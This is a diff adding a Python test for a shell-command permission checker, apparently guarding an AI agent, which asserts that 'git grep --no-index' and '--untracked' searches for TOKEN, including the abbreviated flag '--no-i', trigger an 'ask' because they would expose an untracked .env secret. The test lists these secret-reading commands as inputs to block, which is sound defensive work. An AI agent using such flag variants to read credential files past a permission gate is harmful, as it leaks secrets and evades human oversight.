+    # `--no-index` and `--untracked` search the files on disk and can.
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    _git("init", "-q", str(ws), cwd=tmp_path)
+    (ws / "app.py").write_text("TOKEN = None\n")
+    _commit(ws)
+    (ws / ".env").write_text("TOKEN=x\n")
+    world = World(ws, tmp_path, tmp_path)
+    assert decide_bash(world, "git grep -n TOKEN", "auto").decision == "allow"
+    assert decide_bash(world, "git grep --no-index TOKEN app.py", "auto").decision == "allow"
+    for line in (
+        "git grep --no-index TOKEN",
+        "git grep --untracked -e TOKEN",
+        "git grep --no-i TOKEN",
+    ):
+        outcome = decide_bash(world, line, "auto")
+        assert outcome.decision == "ask" and ".env" in outcome.reason, line
